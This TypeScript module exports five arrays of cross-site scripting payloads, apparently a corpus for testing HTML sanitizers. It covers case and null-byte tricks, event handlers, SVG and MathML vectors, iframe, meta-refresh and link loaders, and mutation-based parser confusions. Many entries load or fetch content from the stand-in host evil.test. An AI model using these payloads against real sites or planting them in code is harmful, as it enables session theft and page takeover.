/** Elements that run or load something by being there, in the spellings that filters miss. `ss(0)` stands for a call with the vector's number. */
export const scripts = [
  '<script>xss(0)</script>', '<SCRIPT>xss(0)</SCRIPT>', '<ScRiPt>xss(0)</sCrIpT>', '<script >xss(0)</script >', '<script\n>xss(0)</script\n>', '<script\t>xss(0)</script>',
  '<script/x>xss(0)</script>', '<script/src=data:,xss(0)></script>', '<script src="data:text/javascript,xss(0)"></script>', '<script src=//evil.test/0.js></script>',
  '<script src=https:evil.test/0.js></script>', '<script src="\\\\evil.test\\0.js"></script>', '<script type=module>xss(0)</script>', '<script type="text/javascript">xss(0);</script>',
  '<script language=vbscript>xss(0)</script>', '<script async defer src=//evil.test/0></script>', '<script>xss(0)', '<script>xss(0)<!--', '<script>xss(0)//', '<<script>xss(0)//<</script>',
  '<script <script>xss(0)</script>', '<scr<script>ipt>xss(0)</scr</script>ipt>', '<scr\u0000ipt>xss(0)</scr\u0000ipt>', '\u0000<script>xss(0)</script>', '<\u0000script>xss(0)</script>',
  '<script\u0000>xss(0)</script>', '<script\u000b>xss(0)</script>', '<script\u000c>xss(0)</script>', '<script\u00a0>xss(0)</script>', '<\u0131script>xss(0)</script>', '<\u017fcript>xss(0)</\u017fcript>',
  '\uff1cscript\uff1exss(0)\uff1c/script\uff1e', '<script>/*<script>*/xss(0)</script>', '<script>\\u0078ss(0)</script>', '<script>window["x"+"ss"](0),top.xss(0)</script>', '<script>xss`0`;xss(0)</script>',
  '<script>import("data:text/javascript,xss(0)")</script>', '<script>fetch("//evil.test/0");xss(0)</script>', '<script>location="//evil.test/0"</script>', '<script>document.write("<img src=//evil.test/0>")</script>',
  '<script>alert(0)</script>', '<script>confirm(0)</script>', '<script>prompt(0)</script>', '<script>setTimeout("xss(0)",0)</script>', '<script>Function("xss(0)")()</script>', '<script nonce>xss(0)</script>',
] as const;

export const pictures = [
  '<img src=x onerror=xss(0)>', '<IMG SRC=x ONERROR=xss(0)>', '<img/src=x/onerror=xss(0)>', '<img src=x onerror="xss(0)">', "<img src=x onerror='xss(0)'>", '<img src=x onerror=`xss(0)`>',
  '<img src=x:x onerror=xss(0)//', '<img src onerror=xss(0)>', '<img src=x\nonerror\n=\nxss(0)>', '<img\u000csrc=x\u000conerror=xss(0)>', '<img src=x onerror\u0000=xss(0)>', '<img src=x one\u0000rror=xss(0)>',
  '<img """><script>xss(0)</script>">', '<img src="javascript:xss(0)">', '<img src=//evil.test/0>', '<img srcset="//evil.test/0 1x">', '<img src=`x` onerror=xss(0) `>', '<img src=x onerror=&#120;ss(0)>',
  '<img src=x onerror=\\u0078ss(0)>', '<img src=x onerror=eval("xss(0)")>', '<img src=x onerror=window.onerror=xss(0);throw+1>', '<img src=x onerror=alert(0)>', '<image src=x onerror=xss(0)>', '<img dynsrc=//evil.test/0>',
  '<img lowsrc=//evil.test/0>', '<img src=x usemap=#m0><map name=m0><area href=javascript:xss(0)></map>', '<picture><source srcset=//evil.test/0><img src=x onerror=xss(0)></picture>', '<input type=image src=x onerror=xss(0)>',
] as const;

export const drawings = [
  '<svg onload=xss(0)>', '<svg/onload=xss(0)>', '<SVG ONLOAD=xss(0)>', '<svg><script>xss(0)</script></svg>', '<svg><script href=//evil.test/0 />', '<svg><script>&#120;ss(0)</script>', '<svg><script>xss&lpar;0&rpar;;xss(0)</script>',
  '<svg><a xlink:href="javascript:xss(0)"><text y=9>0</text></a>', '<svg><animate onbegin=xss(0) attributeName=x dur=1s>', '<svg><set onbegin=xss(0) attributename=x>',
  '<svg><animate xlink:href=#a0 attributeName=href values=javascript:xss(0) /><a id=a0><text y=9>0</text></a>', '<svg><use href="data:image/svg+xml,<svg id=x onload=xss(0)>#x">', '<svg><use xlink:href=//evil.test/0#x>',
  '<svg><image href=//evil.test/0>', '<svg><foreignObject><img src=x onerror=xss(0)></foreignObject>', '<svg><style>@import"//evil.test/0"</style>', '<svg><title><img src=x onerror=xss(0)></title>', '<svg><desc><script>xss(0)</script></desc>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="xss(0)"/>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>xss(0)</handler>', '<svg><discard onbegin=xss(0)>', '<svg id=x tabindex=1 onfocus=xss(0)>',
  '<math><mi//xlink:href="data:x,<script>xss(0)</script>">', '<math href="javascript:xss(0)">0</math>', '<math><maction actiontype=statusline xlink:href=javascript:xss(0)>0</maction></math>',
] as const;

export const embeddings = [
  '<iframe src=javascript:xss(0)>', '<iframe srcdoc="<script>parent.xss(0)</script>">', '<iframe src=//evil.test/0></iframe>', '<iframe onload=xss(0)>', '<IFRAME SRC="data:text/html,<script>parent.xss(0)</script>">', '<iframe/onload=xss(0)//',
  '<iframe srcdoc=&lt;script&gt;parent.xss(0)&lt;/script&gt;>', '<frameset onload=xss(0)>', '<frame src=javascript:xss(0)>', '<object data=javascript:xss(0)>', '<object data="data:text/html,<script>xss(0)</script>">', '<object onerror=xss(0)>',
  '<object classid=clsid:0><param name=url value=javascript:xss(0)></object>', '<embed src=javascript:xss(0)>', '<embed src=//evil.test/0.swf allowscriptaccess=always>', '<applet code=xss(0)>', '<base href=//evil.test/0/>', '<base href="javascript:xss(0)//">',
  '<meta http-equiv=refresh content="0;url=javascript:xss(0)">', '<meta http-equiv=refresh content="0;url=//evil.test/0">', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>xss(0)</script>">', '<meta charset=utf-7>+ADw-script+AD4-xss(0)+ADw-/script+AD4-',
  '<link rel=stylesheet href=//evil.test/0.css>', '<link rel=import href=//evil.test/0>', '<link rel=preload as=script href=//evil.test/0.js>', '<link rel=prefetch href=//evil.test/0>', '<link rel=dns-prefetch href=//evil.test>0', '<link rel=manifest href=//evil.test/0>',
  '<portal src=//evil.test/0>', '<marquee onstart=xss(0)>0</marquee>', '<bgsound src=//evil.test/0>', '<audio src=//evil.test/0 autoplay>', '<video><source onerror=xss(0)></video>', '<video poster=//evil.test/0>', '<video src=x onerror=xss(0)>',
  '<audio src=x onerror=xss(0)>', '<track src=//evil.test/0 onerror=xss(0)>', '<body onload=xss(0)>', '<body background=//evil.test/0>', '<table background=javascript:xss(0)>', '<form action=javascript:xss(0)><button autofocus>0', '<form id=f0></form><button form=f0 formaction=javascript:xss(0)>0',
  '<isindex type=image src=x onerror=xss(0)>', '<input autofocus onfocus=xss(0)>', '<select autofocus onfocus=xss(0)>', '<textarea autofocus onfocus=xss(0)>', '<keygen autofocus onfocus=xss(0)>', '<details open ontoggle=xss(0)>', '<dialog open onclose=xss(0)>', '<xss-0 autofocus tabindex=1 onfocus=xss(0)>',
] as const;

/** Harmless when looked at and something else when read back, and what leaves the element that it was put into. */
export const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=xss(0)>">', '<template><script>xss(0)</script></template>', '<template shadowrootmode=open><img src=x onerror=xss(0)></template>', '<textarea></textarea><img src=x onerror=xss(0)>', '</textarea><script>xss(0)</script>',
  '</title><script>xss(0)</script>', '</style><script>xss(0)</script>', '</noscript><script>xss(0)</script>', '</template><script>xss(0)</script>', '</iframe><script>xss(0)</script>', '</xmp><img src=x onerror=xss(0)>', '<xmp><img alt="</xmp><img src=x onerror=xss(0)>">',
  '<plaintext><img src=x onerror=xss(0)>', '<listing>&lt;img src=x onerror=xss(0)&gt;</listing>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss(0)&gt;">',
  '<math><mtext><img src=x onerror=xss(0)></mtext></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=xss(0)></annotation-xml>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss(0)>', '<svg></p><style><a id="</style><img src=1 onerror=xss(0)>">',
  '<svg><p><style><g title="</style><img src onerror=xss(0)>">', '<style><img src="</style><img src=x onerror=xss(0)//">', '<a title="</p><img src=x onerror=xss(0)>">0</a>', '<b><style><b title="</style><iframe onload=xss(0)>">', '<option><style></option></select><img src=x onerror=xss(0)></style>',
  '<table><td><svg><tr><td><img src=x onerror=xss(0)>', '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=xss(0)>">', '<!--><img src=x onerror=xss(0)>-->', '<!--><script>xss(0)</script>', '<!-- --!><img src=x onerror=xss(0)> -->', '<!--[if gte IE 4]><script>xss(0)</script><![endif]-->',
  '<![CDATA[<script>xss(0)</script>]]>', '<svg><![CDATA[><img src=x onerror=xss(0)>]]>', ']]><script>xss(0)</script>', '<?xml version="1.0"?><script>xss(0)</script>', '<?import implementation=//evil.test/0>', '<!DOCTYPE x [<!ENTITY y SYSTEM "//evil.test/0">]>&y;', '<!ELEMENT x><script>xss(0)</script>', '</ onx=0><img src=x onerror=xss(0)>',
  '<a<b onclick=xss(0)>0', '<x/><img src=x onerror=xss(0)>', '<%00script>xss(0)</script>', '<img src="x` `<script>xss(0)</script>"` `>', '<html><head></head><body><script>xss(0)</script>', '<div><!--</div>--><img src=x onerror=xss(0)>',
] as const;
